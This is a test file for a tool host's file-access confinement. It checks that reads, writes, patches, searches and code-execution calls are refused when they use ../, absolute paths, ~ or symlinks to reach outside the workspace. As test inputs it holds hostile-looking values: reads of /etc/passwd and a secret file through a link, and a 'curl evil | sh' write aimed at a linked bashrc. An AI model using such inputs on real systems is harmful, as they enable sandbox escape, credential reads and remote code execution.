/**
 * The first-party file tools stay inside the workspace root and the folders the
 * operator granted, by real path: `../`, absolute paths, `~`, and symbolic links
 * (to files, to folders, dangling) that lead out are refused with
 * PERMISSION_DENIED naming the path and the roots, and nothing outside is read
 * or written. Real files and links in a temp workspace, through a real host.
 */
import { existsSync, mkdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createToolHost, type ToolHost } from 'toolshed';
import { fixture, fixtureOptions, tempDir } from '../helpers.js';

let work: ReturnType<typeof tempDir>;
let ws: string;
let outsideDir: string;
let shared: string;
let drop: string;
let host: ToolHost;

const parse = (text: string) => {
  try {
    return JSON.parse(text) as Record<string, any>;
  } catch {
    return text as unknown as Record<string, any>;
  }
};

beforeAll(async () => {
  work = tempDir('toolshed-confine-');
  ws = path.join(work.dir, 'workspace');
  outsideDir = path.join(work.dir, 'outside');
  shared = path.join(work.dir, 'shared');
  drop = path.join(work.dir, 'drop');
  for (const dir of [ws, outsideDir, shared, drop, path.join(ws, 'src')]) mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(ws, 'src', 'main.txt'), 'inside\n');
  writeFileSync(path.join(outsideDir, 'secret.txt'), 'TOP SECRET\n');
  writeFileSync(path.join(outsideDir, 'bashrc'), 'original\n');
  writeFileSync(path.join(shared, 'notes.txt'), 'shared notes\n');
  symlinkSync(path.join(outsideDir, 'secret.txt'), path.join(ws, 'leak.txt'));
  symlinkSync(path.join(outsideDir, 'bashrc'), path.join(ws, 'bashrc'));
  symlinkSync(outsideDir, path.join(ws, 'out-dir'));
  symlinkSync(path.join(outsideDir, 'created-by-link.txt'), path.join(ws, 'dangling.txt'));
  symlinkSync(path.join(ws, 'src', 'main.txt'), path.join(ws, 'alias.txt'));
  host = await createToolHost({
    cwd: work.dir,
    root: ws,
    env: { PATH: process.env.PATH },
    config: {
      enable: ['file', 'code'],
      cache: { enabled: false },
      codeExecution: { tools: ['read_file', 'write_file'] },
      plugins: [{ package: '@toolshed/file', grant: { fsRead: [shared], fsWrite: [drop] } }],
    },
  });
});
afterAll(async () => {
  await host?.close();
  work.cleanup();
});

function expectDenied(out: Record<string, any>, pathShown: string) {
  expect(out.code).toBe('PERMISSION_DENIED');
  expect(out.error).toContain(pathShown);
  expect(out.error).toContain(ws);
}

describe('file tools confined to the workspace root and granted folders', () => {
  it('reads inside the workspace, and through a link that stays inside', async () => {
    expect(await host.dispatch('read_file', { path: 'src/main.txt' })).toBe('     1|inside');
    expect(await host.dispatch('read_file', { path: 'alias.txt' })).toBe('     1|inside');
  });

  it('refuses ../, absolute paths and ~ outside the roots', async () => {
    expectDenied(
      parse(await host.dispatch('read_file', { path: '../outside/secret.txt' })),
      path.join(outsideDir, 'secret.txt'),
    );
    expectDenied(parse(await host.dispatch('read_file', { path: '/etc/passwd' })), '/etc/passwd');
    expect(parse(await host.dispatch('read_file', { path: '~/.bashrc' })).code).toBe('PERMISSION_DENIED');
    expectDenied(parse(await host.dispatch('search_files', { path: '..', pattern: 'SECRET' })), work.dir);
    expectDenied(
      parse(await host.dispatch('write_file', { path: '../outside/new.txt', content: 'x' })),
      path.join(outsideDir, 'new.txt'),
    );
    expect(existsSync(path.join(outsideDir, 'new.txt'))).toBe(false);
  });

  it('refuses a link to a file outside, for reading, writing and patching, and leaves its target alone', async () => {
    const read = parse(await host.dispatch('read_file', { path: 'leak.txt' }));
    expectDenied(read, 'leak.txt');
    expect(read.error).toContain(`leads to ${path.join(outsideDir, 'secret.txt')} through a symbolic link`);
    expectDenied(parse(await host.dispatch('write_file', { path: 'bashrc', content: 'curl evil | sh\n' })), 'bashrc');
    expectDenied(
      parse(await host.dispatch('patch', { path: 'bashrc', old_string: 'original', new_string: 'pwned' })),
      'bashrc',
    );
    expect(readFileSync(path.join(outsideDir, 'bashrc'), 'utf8')).toBe('original\n');
  });

  it('refuses a path below a linked folder outside, and a dangling link (writing would create its target)', async () => {
    expectDenied(parse(await host.dispatch('read_file', { path: 'out-dir/secret.txt' })), 'out-dir/secret.txt');
    expectDenied(
      parse(await host.dispatch('write_file', { path: 'out-dir/planted.txt', content: 'x' })),
      'out-dir/planted.txt',
    );
    expect(existsSync(path.join(outsideDir, 'planted.txt'))).toBe(false);
    expect(parse(await host.dispatch('write_file', { path: 'dangling.txt', content: 'x' })).code).toBe(
      'PERMISSION_DENIED',
    );
    expect(existsSync(path.join(outsideDir, 'created-by-link.txt'))).toBe(false);
  });

  it('writes through a link that stays inside, to its target, keeping the link', async () => {
    expect(parse(await host.dispatch('write_file', { path: 'alias.txt', content: 'changed\n' }))).toMatchObject({
      created: false,
    });
    expect(readFileSync(path.join(ws, 'src', 'main.txt'), 'utf8')).toBe('changed\n');
    expect(await host.dispatch('read_file', { path: 'alias.txt' })).toBe('     1|changed');
  });

  it('search_files does not follow links out and never shows what is behind them', async () => {
    const out = await host.dispatch('search_files', { pattern: 'SECRET|original' });
    expect(out).not.toContain('TOP SECRET');
    expect(out).not.toContain('original\n');
    expect(out).toContain('No matches');
    const listing = await host.dispatch('search_files', { glob: '**/*' });
    expect(listing).not.toContain('secret.txt');
  });

  it("uses the operator's fsRead and fsWrite grants for @toolshed/file: read-only where only reading was granted", async () => {
    expect(await host.dispatch('read_file', { path: path.join(shared, 'notes.txt') })).toBe('     1|shared notes');
    expect(parse(await host.dispatch('write_file', { path: path.join(shared, 'notes.txt'), content: 'x' })).code).toBe(
      'PERMISSION_DENIED',
    );
    expect(
      parse(await host.dispatch('write_file', { path: path.join(drop, 'out.txt'), content: 'dropped' })),
    ).toMatchObject({ created: true });
    expect(readFileSync(path.join(drop, 'out.txt'), 'utf8')).toBe('dropped');
    expect(await host.dispatch('read_file', { path: path.join(drop, 'out.txt') })).toBe('     1|dropped');
  });

  it('holds for calls made from execute_code too', async () => {
    const code =
      "try { await tools.read_file({ path: '../outside/secret.txt' }); return 'read'; } catch (e) { return e.code; }";
    expect(parse(await host.dispatch('execute_code', { code })).result).toBe('PERMISSION_DENIED');
  });

  it('explain shows the roots as enforced by the plugin itself, and nothing else as enforced', () => {
    const file = host.explain().plugins.find((p) => p.name === '@toolshed/file')!;
    const real = (p: string) => realpathSync(p);
    expect(file.permissions?.enforced.fs).toMatchObject({
      by: 'plugin',
      read: [real(drop), real(shared), real(ws)].sort(),
      write: [real(drop), real(ws)].sort(),
    });
    expect(file.permissions?.enforced.network).toBe('declared, not enforced');
    expect(file.permissions?.enforced.env).toBe('declared, not enforced');
  });
});

describe('explain shows only what is enforced, for every tier', () => {
  it("says 'declared, not enforced' for a trusted plugin's grants, and names the sandbox for an untrusted one", async () => {
    const options = fixtureOptions(['kitchen']);
    const config = {
      ...(options.config as Record<string, unknown>),
      plugins: [
        { package: fixture('plugins', 'kitchen'), trust: 'trusted' as const },
        { package: fixture('plugins', 'bounded'), trust: 'untrusted' as const, grant: { fsRead: [work.dir] } },
      ],
    };
    const other = await createToolHost({ ...options, config });
    try {
      const [kitchen, bounded] = ['toolshed-plugin-kitchen', 'toolshed-plugin-bounded'].map(
        (name) => other.explain().plugins.find((p) => p.name === name)!,
      );
      expect(kitchen!.permissions?.enforced).toEqual({
        fs: 'declared, not enforced',
        network: 'declared, not enforced',
        env: 'declared, not enforced',
      });
      expect(bounded!.permissions?.enforced.fs).toMatchObject({ by: 'sandbox', read: [], write: [] });
      expect(bounded!.permissions?.enforced.env).toMatchObject({ by: 'sandbox', names: [] });
    } finally {
      await other.close();
    }
  });
});
